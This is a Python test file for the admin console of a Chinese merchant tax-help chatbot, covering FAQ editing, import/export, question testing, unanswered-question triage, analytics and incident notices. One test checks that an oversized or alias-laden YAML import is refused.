        entry = service.get(db_session=db_session, faq_id="busy_server")
        shipped, form = entry.source, editor_form(entry, source="  国家税务总局公告2024年第8号\n（2024-11-01） ")
    assert shipped and shipped in console.get("/console/admin/faq/busy_server").text
    assert post(console, "faq/busy_server", csrf, form).status_code == 303
    with session_scope() as db_session:
        assert (
            service.get(db_session=db_session, faq_id="busy_server").source
            == "国家税务总局公告2024年第8号 （2024-11-01）"
        )
    assert "国家税务总局公告2024年第8号" in console.get("/console/admin/faq/busy_server/versions/2").text
    assert "国家税务总局公告2024年第8号" in console.get("/console/admin/faq/export.csv").text
    assert (
        post(console, "faq/busy_server", csrf, {**editor_form(entry), "source": "", "version": "2"}).status_code == 303
    )
    assert "缺依据" in console.get("/console/admin/faq?q=busy_server").text


def test_disabling_an_entry_stops_the_bot_using_it(console):
    _, csrf = login(console, "admin1")
    router = make_router(store=MemoryStore())
    assert say(router, "电子税务局在维护升级，我急着开票怎么办？", user="m1").topic == "busy_maintenance"
    assert post(console, "faq/busy_maintenance/disable", csrf).status_code == 303
    assert say(router, "电子税务局在维护升级，我急着开票怎么办？", user="m2").topic != "busy_maintenance"
    assert post(console, "faq/busy_maintenance/enable", csrf).status_code == 303
    with session_scope() as db_session:
        assert [v.action for v in versions.get_versions(db_session=db_session, faq_id="busy_maintenance")][:2] == [
            "updated",
            "updated",
        ]


def test_creating_an_entry_validates_it(console):
    _, csrf = login(console, "admin1")
    form = {"id": "Bad Id", "category": "测试", "question": "问", "answer": "答案。", "enabled": "on"}
    response = post(console, "faq/new", csrf, form)
    assert response.status_code == 422
    assert "编号：须以小写字母开头" in response.text and "标准问题：至少 2 个字" in response.text
    form.update(id="print_blank", question="发票打印出来是空白的？", alternates="打印空白\n打印出来没字")
    response = post(console, "faq/new", csrf, form)
    assert response.status_code == 303 and response.headers["location"] == "/console/admin/faq/print_blank"
    assert post(console, "faq/new", csrf, form).status_code == 409  # the id is taken
    with session_scope() as db_session:
        entry = service.get(db_session=db_session, faq_id="print_blank")
        assert entry.alternates == ["打印空白", "打印出来没字"] and entry.version == 1
    assert match("发票打印出来是空白的？").topic == "print_blank"


def test_try_a_question_shows_the_ranked_candidates(console):
    login(console, "admin1")
    data = console.get("/console/admin/faq/try.json", params={"q": "提示服务器繁忙，请稍后再试怎么办"}).json()
    assert data["outcome"] == "answer" and data["topic"] == "busy_server" and 0 < data["confidence"] <= 1
    assert data["candidates"][0]["topic"] == "busy_server" and data["candidates"][0]["guide"] is True
    scores = [c["score"] for c in data["candidates"]]
    assert scores == sorted(scores, reverse=True) and len(scores) >= 3
    page = console.get("/console/admin/faq/try", params={"q": "提示服务器繁忙，请稍后再试怎么办"})
    assert "直接回答" in page.text and "<code>busy_server</code>" in page.text
    assert console.get("/console/admin/faq/try.json", params={"q": ""}).json()["outcome"] is None


def shown_reply(page: str) -> str:
    """The reply text as the try page shows it."""
    found = re.search(r'<div class="kb-reply" id="try-reply">(.*?)</div>', page, re.S)
    return html.unescape(found.group(1)) if found else ""


def count_rows(*models) -> list[int]:
    with session_scope() as db_session:
        return [db_session.query(model).count() for model in models]


def test_try_a_question_shows_the_reply_a_merchant_gets_with_intent_topic_threshold_and_margin(console):
    login(console, "admin1")
    sent = say(make_router(store=MemoryStore()), QUESTION, user="merchant")
    before = count_rows(ConversationTurn, Ticket)
    data = console.get("/console/admin/faq/try.json", params={"q": QUESTION}).json()
    page = console.get("/console/admin/faq/try", params={"q": QUESTION}).text
    assert shown_reply(page) == sent.text == data["reply"]["text"]
    assert [o["label"] for o in data["reply"]["options"]] == [o.label for o in sent.options] == ["有帮助", "没解决"]
    assert (data["intent"], data["topic"], data["confidence"]) == ("answer", sent.topic, sent.confidence)
    entry_question = do(service.get, faq_id=sent.topic).question
    assert data["topic_question"] == entry_question and entry_question in page
    result, policy = match(QUESTION), MatcherConfig.load()
    assert data["threshold"] == (policy.policy if result.reranked else policy.lexical_policy).answer_at
    assert data["gate"] == "answer_at" and data["margin"] == result.margin > 0
    assert "直接回答阈值" in page and "与第二名的差距" in page and f"{result.margin:.3f}" in page
    assert '<li title="feedback:no:' in page and "意图" in page and "直接回答" in page
    assert data["candidates"][0]["topic"] == sent.topic and len(data["candidates"]) >= 3
    assert count_rows(ConversationTurn, Ticket) == before  # trying records nothing


def test_try_an_off_topic_question_shows_the_fallback_reply_and_why(console):
    login(console, "admin1")
    question = "今天中午吃什么好呢"
    sent = say(make_router(store=MemoryStore()), question, user="merchant")
    part = console.get("/console/admin/faq/try.part", params={"q": question}).text
    data = console.get("/console/admin/faq/try.json", params={"q": question}).json()
    assert sent.intent == data["intent"] == "fallback" and shown_reply(part) == sent.text
    assert data["outcome"] == "not_sure" and data["gate"] == "clarify_at" and "兜底回复" in part
    assert "低于请选择阈值" in data["reason"] and data["reason"] in part
    greeting = console.get("/console/admin/faq/try.json", params={"q": "你好"}).json()
    assert greeting["intent"] == "greeting" and greeting["matched"] is False and "规则" in greeting["reason"]


def test_csv_export_and_import_in_the_console(console):
    _, csrf = login(console, "admin1")
    response = console.get("/console/admin/faq/export.csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeffid,category,question,alternates,keywords,answer,source,enabled")
    changed = text.replace("这通常是平台访问量大或临时故障", "这多半是平台访问量大或临时故障", 1)
    files = {"file": ("faq.csv", changed.encode("gb18030"), "text/csv")}
    response = post(console, "faq/import", csrf, {"format": "auto"}, files=files)
    assert response.status_code == 303
    assert "更新 1 条" in console.get("/console/admin/faq").text
    with session_scope() as db_session:
        assert service.get(db_session=db_session, faq_id="busy_server").answer.startswith("这多半是")
    response = post(console, "faq/import", csrf, {"text": "id,category\nx,y\n", "format": "csv"})
    assert response.status_code == 303 and "导入失败" in console.get("/console/admin/faq/import").text
    assert console.get("/console/admin/faq/export.yaml").text.startswith("- id:")


def test_yaml_alias_bomb_import_fails_with_a_reason_in_chinese(console):
    from tests.core.test_safe_yaml import alias_bomb

    _, csrf = login(console, "admin1")
    files = {"file": ("faq.yaml", alias_bomb(9).encode(), "application/yaml")}
    response = post(console, "faq/import", csrf, {"format": "auto"}, files=files)
    assert response.status_code == 303
    assert "导入失败（YAML）：不支持 YAML 锚点和别名" in console.get("/console/admin/faq/import").text
    pasted = "- id: big_entry\n  category: 测试\n  question: 很长吗？\n  answer: " + "发" * (1024 * 1024)
    response = post(console, "faq/import", csrf, {"text": pasted, "format": "yaml"})  # 3 MB pasted
    assert response.status_code in (303, 400)  # refused by the form parser (1 MB a field) or our 2 MB cap
    with session_scope() as db_session:
        assert service.get(db_session=db_session, faq_id="big_entry") is None


def listed(client: TestClient) -> str:
    """The unanswered page below the topic picker's options."""
    return client.get("/console/admin/unanswered").text.split("</datalist>")[-1]


def test_unanswered_questions_in_the_console(console):
    _, csrf = login(console, "admin1")
    turn("u1", ODD_QUESTION, "fallback", utc(datetime.now(SH)) - timedelta(hours=1))
    turn("u2", ODD_QUESTION + "？", "fallback", utc(datetime.now(SH)) - timedelta(hours=1))
    turn("u3", "你们几点下班", "fallback", utc(datetime.now(SH)) - timedelta(hours=1))
    page = console.get("/console/admin/unanswered").text
    assert ODD_QUESTION in page and "2 次</span>" in page and "2 位商户" in page and "你们几点下班" in page
    assert 'value="missing_buyer_cannot_see"' in page  # the matcher's best guess is pre-filled
    assert "/console/admin/faq/new?question=" in page
    keys = [unanswered.text_key(ODD_QUESTION)]
    form = {"topic": "missing_buyer_cannot_see", "text": [ODD_QUESTION], "key": keys}
    assert post(console, "unanswered/alternate", csrf, form).status_code == 303
    assert match(ODD_QUESTION).topic == "missing_buyer_cannot_see"
    page = listed(console)
    assert ODD_QUESTION not in page and "你们几点下班" in page
    form = {"key": [unanswered.text_key("你们几点下班")], "label": "你们几点下班"}
    assert post(console, "unanswered/dismiss", csrf, form).status_code == 303
    assert "你们几点下班" not in listed(console)
    with session_scope() as db_session:
        actions = {e.action for e in db_session.scalars(select(TicketEvent)).all()}
    assert {"unanswered_alternate", "unanswered_dismissed"} <= actions


def test_starting_a_new_faq_from_an_unanswered_question(console):
    _, csrf = login(console, "admin1")
    turn("u1", "发票打印出来是空白的", "fallback", utc(datetime.now(SH)) - timedelta(hours=1))
    key = unanswered.text_key("发票打印出来是空白的")
    editor = console.get("/console/admin/faq/new", params={"question": "发票打印出来是空白的", "key": key}).text
    assert 'value="发票打印出来是空白的"' in editor and f'name="key" value="{key}"' in editor
    form = {
        "id": "print_blank",
        "category": "打印",
        "question": "发票打印出来是空白的",
        "answer": "检查打印机。",
        "enabled": "on",
        "key": key,
    }
    assert post(console, "faq/new", csrf, form).status_code == 303
    assert "发票打印出来是空白的" not in listed(console)


def test_the_guides_page_shows_a_broken_guides_problems(console, tmp_path, monkeypatch):
    from console import unanswered as unanswered_views

    login(console, "admin1")
    (tmp_path / "broken_guide.yaml").write_text(BROKEN_GUIDE, encoding="utf-8")
    monkeypatch.setattr(unanswered_views, "guides_dir", lambda: tmp_path)
    page = console.get("/console/admin/guides").text
    assert "broken_guide" in page and "1 个问题" in page
    assert "next &#39;nowhere&#39; is not a step (dangling)" in page and "没有对应条目" in page
    monkeypatch.undo()
    page = console.get("/console/admin/guides").text
    assert "busy_server" in page and "有效" in page


def test_the_analytics_page_draws_its_charts(console):
    login(console, "admin1")
    now = utc(datetime.now(SH))
    turn("a", "服务器繁忙", "answer", now - timedelta(minutes=5), topic="busy_server")
    turn("b", "人工", "handoff", now - timedelta(minutes=5))
    turn("c", "今天中午吃什么", "fallback", now - timedelta(minutes=4))
    turn("d", "个税怎么汇算", "out_of_scope", now - timedelta(minutes=4), topic="outside_individual_income_tax")
    turn("d", "你好", "greeting", now - timedelta(minutes=3))
    page = console.get("/console/admin/analytics", params={"days": 7}).text
    assert page.count("<svg") == 5
    stats = dict(re.findall(r'<div class="kb-stat"><small>([^<]+)</small><b>([^<]+)</b>', page))
    assert {k: stats[k] for k in ("会话", "机器人解决率", "兜底率", "超出范围率", "转人工率")} == {
        "会话": "4",
        "机器人解决率": "25%",
        "兜底率": "25%",
        "超出范围率": "25%",
        "转人工率": "25%",
    }
    assert "兜底：会话中至少有一次" in page and "超出范围：会话中至少有一个问题" in page
    assert "<code>busy_server</code>" in page


def test_incidents_in_the_console(console):
    admin_id, csrf = login(console, "admin1")
    hit("busy_server", [f"m{n}" for n in range(5)], utc(datetime.now(SH)) - timedelta(minutes=2))
    assert post(console, "incidents/detect", csrf).status_code == 303
    with session_scope() as db_session:
        [incident] = incidents.open_incidents(db_session=db_session)
    assert "事件进行中" in console.get("/console/admin/faq").text  # the banner
    page = console.get(f"/console/admin/incidents/{incident.id}").text
    assert "发布公告" in page and "m4" in page
    form = {"notice": "已知晓，正在处理，请稍后再试。", "push": "on"}
    assert post(console, f"incidents/{incident.id}/notice", csrf, form).status_code == 303
    assert notice("busy_server") == "已知晓，正在处理，请稍后再试。"
    with session_scope() as db_session:
        assert len(db_session.scalars(select(OutboxMessage)).all()) == 5
        event = db_session.scalars(select(TicketEvent).where(TicketEvent.action == "incident_notice")).one()
        assert event.actor_id == admin_id
    assert post(console, f"incidents/{incident.id}/close", csrf).status_code == 303
    assert notice("busy_server") is None
    assert "已关闭" in console.get("/console/admin/incidents").text


def test_try_a_question_on_a_side_the_topic_does_not_cover_says_why_it_is_a_choice(console):
    login(console, "admin1")
    question = "专票抵扣联要单独装订成册吗"
    data = console.get("/console/admin/faq/try.json", params={"q": question}).json()
    assert data["intent"] == "clarify" and data["gate"] == "aspect"
    assert data["gate_label"] == "问的方面与条目不符" and "没有涉及的方面" in data["reason"]
